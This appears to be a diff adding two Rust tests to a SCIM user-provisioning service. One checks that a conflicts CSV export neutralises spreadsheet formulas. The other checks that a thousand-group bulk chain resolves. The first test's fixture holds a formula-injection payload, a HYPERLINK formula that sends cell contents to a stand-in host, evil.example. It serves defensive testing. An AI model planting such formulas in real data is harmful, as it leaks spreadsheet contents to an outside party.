@@ -416,3 +416,102 @@ async fn scim_delete_holds_the_user_name_and_the_cli_resolves_conflicts() {
         .await;
     assert_eq!(found.total(), 1);
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conflicts_csv_defuses_formulas_behind_tabs_and_blanks() {
+    let server = Server::start();
+    let db = server.database.clone();
+    let org = server.org.id.clone();
+    server.api().post("/Users", &user_body(9)).await.expect(201);
+    // Disconnected, the account is manual; the next connection's create of it is a conflict.
+    cli(&["disconnect", "--org", &org, "--database", &db]);
+    let token = cli(&["token", "generate", "--org", &org, "--database", &db]);
+    let display = "\t=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    let mut hostile = user_body(9);
+    hostile["displayName"] = json!(display);
+    hostile["externalId"] = json!(" =1+2");
+    let refused = server.client.post("/Users", &hostile, &token).await;
+    refused.expect_error(409, Some("uniqueness"));
+
+    let csv = cli(&["conflicts", "download", "--org", &org, "--database", &db]);
+    let row = csv
+        .lines()
+        .find(|l| l.starts_with(&user_name(9)))
+        .unwrap_or_else(|| panic!("no conflict row in:\n{csv}"));
+    // Each value starts with ' inside its quotes, so a spreadsheet shows it as text.
+    assert!(
+        row.contains(",\"'\t=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
+        "{row:?}"
+    );
+    assert!(row.contains(",\"' =1+2\","), "{row:?}");
+}
+
+/// A thousand groups, each a member of the next through `bulkId`, listed last group first:
+/// every reference waits on a later operation, so the chain resolves from its far end.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_bulk_chain_of_a_thousand_groups_listed_backwards_resolves() {
+    const N: usize = 1000;
+    let server = Server::start();
+    let api = server.api();
+    // Group k has group k - 1 as its member; the request starts with group N - 1.
+    let operations: Vec<Value> = (0..N)
+        .rev()
+        .map(|k| {
+            let members = if k == 0 {
+                json!([])
+            } else {
+                json!([{ "type": "Group", "value": format!("bulkId:g{}", k - 1) }])
+            };
+            json!({
+                "method": "POST",
+                "path": "/Groups",
+                "bulkId": format!("g{k}"),
+                "data": {
+                    "schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"],
+                    "displayName": format!("Chain {k:04}"),
+                    "members": members
+                }
+            })
+        })
+        .collect();
+    let r = api
+        .post(
+            "/Bulk",
+            &json!({
+                "schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"],
+                "Operations": operations
+            }),
+        )
+        .await;
+    r.expect(200);
+    let results = r.json()["Operations"].as_array().expect("Operations");
+    assert_eq!(results.len(), N);
+    // Results come in request order, each with its bulkId and the id it created.
+    let mut ids = vec![String::new(); N];
+    for (j, res) in results.iter().enumerate() {
+        let k = N - 1 - j;
+        assert_eq!(res["bulkId"], json!(format!("g{k}")), "{res}");
+        assert_eq!(res["status"], json!("201"), "{res}");
+        let location = res["location"].as_str().expect("location");
+        ids[k] = location.rsplit('/').next().expect("id").to_owned();
+    }
+    let page = api
+        .get("/Groups?count=1000&attributes=displayName,members")
+        .await;
+    let groups = page.expect_list()["Resources"]
+        .as_array()
+        .expect("Resources")
+        .clone();
+    assert_eq!(groups.len(), N);
+    for g in &groups {
+        let name = g["displayName"].as_str().expect("displayName");
+        let k: usize = name["Chain ".len()..].parse().expect("number");
+        assert_eq!(g["id"], json!(ids[k]), "{g}");
+        let members: Vec<&str> = g["members"]
+            .as_array()
+            .map(|m| m.iter().filter_map(|m| m["value"].as_str()).collect())
+            .unwrap_or_default();
+        let want: Vec<&str> = if k == 0 { vec![] } else { vec![&ids[k - 1]] };
+        assert_eq!(members, want, "{g}");
+    }
+}
